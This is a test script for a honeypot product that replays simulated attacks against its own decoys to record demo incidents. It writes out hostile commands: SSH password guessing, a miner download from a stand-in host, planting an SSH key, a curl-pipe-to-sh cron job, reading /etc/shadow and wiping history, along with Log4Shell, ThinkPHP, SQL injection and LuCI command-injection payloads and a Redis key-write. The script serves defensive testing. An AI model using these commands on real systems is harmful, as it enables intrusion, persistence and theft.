/**
 * Records the attacks of the console's tour (`content/tour`): the whole product runs in a namespace, and real clients attack it from addresses that are
 * for documentation (RFC 5737). What it made of that (events, incidents, terminals) is kept as it is, but for the names of events, sessions and incidents.
 *
 *     node e2e/story/record-tour.ts
 */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Event } from '@netsentinel/contracts/event';
import type { Incident } from '@netsentinel/contracts/incident';
import { TOUR_DATASET, TOUR_PREFIX } from '@netsentinel/contracts/recorded';
import { systemClock } from '@netsentinel/kernel/clock';
import { openKeyring } from '@netsentinel/kernel/keyring-files';
import { silentLogger } from '@netsentinel/kernel/log';
import { openDuckDbEventStore } from '@netsentinel/store/events/duckdb/duckdb-events.store';
import { openFileBlobStore } from '@netsentinel/store/blobs/files/file-blob.store';
import { openSqliteStateStore } from '@netsentinel/store/state/sqlite/sqlite-state.store';
import { openStage, openTerminal, PORT, run, ssh, type Login, type Stage } from './stage.ts';

const CONTENT = join(import.meta.dirname, '../../content/tour');
const TIMEOUT = { timeoutMs: 20_000 };
const KEY =
  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7rEcoRdEdNo0tARecordedAttackNobodyHasThisKeyAAAAAAAAAAAAAAAAAAAAAAAAAAAAA root@kali';

const GUESSES = [
  'admin123',
  'P@ssw0rd',
  'qwerty123',
  'changeme',
  '111111',
  'letmein',
  '1q2w3e4r',
  'toor',
  '123456',
  'root',
];

/** What each attack is called, who makes it, and how. */
const ATTACKS: readonly {
  readonly name: string;
  readonly address: string;
  readonly attack: (stage: Stage, address: string) => Promise<void>;
}[] = [
  { name: 'ssh-intruder', address: '203.0.113.66', attack: breakIn },
  { name: 'web-exploits', address: '198.51.100.23', attack: exploitWeb },
  { name: 'redis-key', address: '192.0.2.77', attack: plantKey },
];

/** Guesses passwords until one is right, looks around, fetches a miner and plants it. */
async function breakIn(stage: Stage): Promise<void> {
  const host = stage.network.defender4;
  let login: Login | undefined;
  for (const password of GUESSES) {
    const guess = { host, password };
    const { stdout } = await stage.attack(ssh(guess, 'uname -s -m'), TIMEOUT);
    if (stdout.includes('Linux')) login = guess;
    if (login !== undefined) break;
  }
  if (login === undefined) throw new Error('the decoy let nobody in');
  const terminal = openTerminal([...stage.network.inAttacker, ...ssh(login)], 120_000);
  for (let waited = 0; waited < 60 && !terminal.shown.includes('#'); waited++) await sleep(200);
  for (const line of [
    'w',
    'uname -a; id',
    'cat /etc/passwd | head -4',
    'cat /proc/cpuinfo | grep name | head -2',
    'cd /tmp && wget http://198.51.100.200/x86_64/kinsing -O .k',
    'chmod +x .k; ./.k &',
    `mkdir -p ~/.ssh; echo "${KEY}" >> ~/.ssh/authorized_keys`,
    '(crontab -l; echo "*/5 * * * * curl -s http://198.51.100.200/u.sh | sh") | crontab -',
    'cat /etc/shadow | head -2',
    'rm -f ~/.bash_history; history -c',
    'exit',
  ]) {
    await sleep(700);
    for (const key of line.length > 90 ? [line] : line) {
      terminal.type(key);
      await sleep(35 + (((key.codePointAt(0) ?? 0) * 7) % 70));
    }
    terminal.type('\n');
    await sleep(900);
  }
  for (let waited = 0; waited < 50 && !terminal.ended; waited++) await sleep(200);
  terminal.end();
}

/** Looks for what is often left open, then tries exploits of the last years. */
async function exploitWeb(stage: Stage): Promise<void> {
  const base = `http://${stage.network.defender4}:8080`;
  const get = (path: string, ...more: string[]): Promise<unknown> =>
    stage.attack(['curl', '-s', '-o', '/dev/null', '--path-as-is', '--max-time', '10', ...more, base + path], TIMEOUT);
  const agent = ['-A', 'Mozilla/5.0 (compatible; Nuclei - Open-source project)'];
  for (const path of ['/', '/robots.txt', '/.env', '/.git/config', '/.aws/credentials', '/wp-login.php', '/backup.sql'])
    await get(path, ...agent);
  await get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', ...agent);
  await get(
    '/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
    ...agent,
  );
  await get('/', '-A', '${jndi:ldap://198.51.100.200:1389/Basic/Command/Base64/aWQ=}');
  await get("/products?id=1'%20UNION%20SELECT%20user,password%20FROM%20mysql.user--%20-", ...agent);
  await get(
    '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://198.51.100.200/m.sh%20-O-|sh)',
  );
  for (const password of ['admin', 'admin123', 'password'])
    await get('/wp-login.php', ...agent, '-d', `log=admin&pwd=${password}&wp-submit=Log+In`);
}

/** Has a Redis that asks for no password write an SSH key. */
async function plantKey(stage: Stage): Promise<void> {
  const host = stage.network.defender4;
  const commands = [
    'INFO server',
    'CONFIG GET dir',
    'FLUSHALL',
    `SET crackit "\\n\\n${KEY}\\n\\n"`,
    'CONFIG SET dir /root/.ssh/',
    'CONFIG SET dbfilename authorized_keys',
    'SAVE',
    'QUIT',
  ];
  await stage.attack(['redis-cli', '-h', host, '-p', '6379', 'PING'], TIMEOUT);
  await stage.attack(['redis-cli', '-h', host, '-p', '6379'], { ...TIMEOUT, input: `${commands.join('\n')}\n` });
}

const stage = openStage();
try {
  const { network } = stage;
  network.addAttackers(ATTACKS.map(({ address }) => `${address}/32`));
  for (const { address } of ATTACKS)
    network.run('defender', ['ip', 'route', 'add', `${address}/32`, 'via', network.attacker4]);
  const link = /\d+: (nsa\w+)/.exec(network.run('attacker', ['ip', '-o', 'link']))![1]!;
  await stage.start({
    decoys: [
      { id: 'ssh-1', type: 'ssh', port: PORT },
      { id: 'http-1', type: 'http', port: 8080 },
      { id: 'redis-1', type: 'redis', port: 6379 },
    ],
  });
  for (const { name, address, attack } of ATTACKS) {
    console.log(`${name} from ${address}`);
    network.run('attacker', ['ip', 'route', 'replace', `${network.defender4}/32`, 'dev', link, 'src', address]);
    await attack(stage, address);
  }
  // What the end of a connection tells comes a little later.
  await sleep(4_000);
  const { folder } = stage.product;
  await stage.product.stop();
  await keep(join(folder, 'data'));
} finally {
  await stage.close();
}

async function keep(data: string): Promise<void> {
  const found = (await run(['find', data, '-name', 'state.db'])).stdout.trim();
  const at = (part: string): string => join(found, '..', part);
  const log = silentLogger;
  const keys = openKeyring({ directory: join(found, '..') }, Date.now()).keyring;
  const [state, events, blobs] = [
    await openSqliteStateStore({ file: at('state.db'), log, clock: systemClock }),
    await openDuckDbEventStore({ directory: at('events'), log, minFreeBytes: 0 }),
    await openFileBlobStore({ directory: at('blobs'), maxBlobBytes: 64 * 1024 * 1024, keys, log }),
  ];
  for (const { name, address } of ATTACKS) {
    const { incidents } = await state.read.incidents({ actor: address });
    if (incidents.length !== 1) throw new Error(`${incidents.length} incidents of ${address}`);
    const incident = (await state.read.incident(incidents[0]!.id))!;
    const where = { filters: [{ field: 'source.ip', op: 'eq' as const, value: address }], order: 'oldest' as const };
    const page = await events.query({ ...where, limit: 1000 });
    if (page.next !== undefined) throw new Error('more events than one page has');
    const folder = join(CONTENT, name);
    rmSync(folder, { recursive: true, force: true });
    mkdirSync(folder, { recursive: true });
    const renamed = namesOf(name, incident, page.events);
    writeFileSync(
      join(folder, 'incident.json'),
      `${renamed(JSON.stringify(withoutActions(incident), undefined, 1))}\n`,
    );
    const lines = page.events.map((event) => renamed(JSON.stringify(asRecorded(event))));
    writeFileSync(join(folder, 'events.jsonl'), `${lines.join('\n')}\n`);
    for (const { recording } of incident.sessions) {
      const bytes = recording === undefined ? undefined : await blobs.readRecording(recording);
      if (bytes !== undefined) writeFileSync(join(folder, `${renamed(recording!)}.cast`), bytes);
    }
    console.log(`${name}: ${page.events.length} events, ${incident.title}`);
  }
  await Promise.all([state.close(), events.close(), blobs.close()]);
}

/** Nothing was blocked by a recording: what the response would have done stays in the story alone. */
function withoutActions(incident: Incident): Incident {
  const { heldBy: _, ...rest } = incident;
  return { ...rest, status: 'open', actions: [] };
}

function asRecorded(event: Event): Event {
  return { ...event, tags: [...(event.tags ?? []), 'recorded'], event: { ...event.event, dataset: TOUR_DATASET } };
}

/** Gives all that has a name one of the tour's, wherever it is named. */
function namesOf(name: string, incident: Incident, events: readonly Event[]): (text: string) => string {
  const names = new Map([[incident.id, `${TOUR_PREFIX}${name}`]]);
  for (const [n, { event, netsentinel }] of events.entries()) {
    names.set(event.id, `${TOUR_PREFIX}${name}-e${n + 1}`);
    const session = netsentinel.session?.id;
    if (session !== undefined && !names.has(session)) names.set(session, `${TOUR_PREFIX}${name}-s${names.size}`);
  }
  // The longest first: some begin as others do.
  const ordered = [...names].toSorted(([a], [b]) => b.length - a.length);
  return (text) => ordered.reduce((all, [from, to]) => all.replaceAll(from, to), text);
}
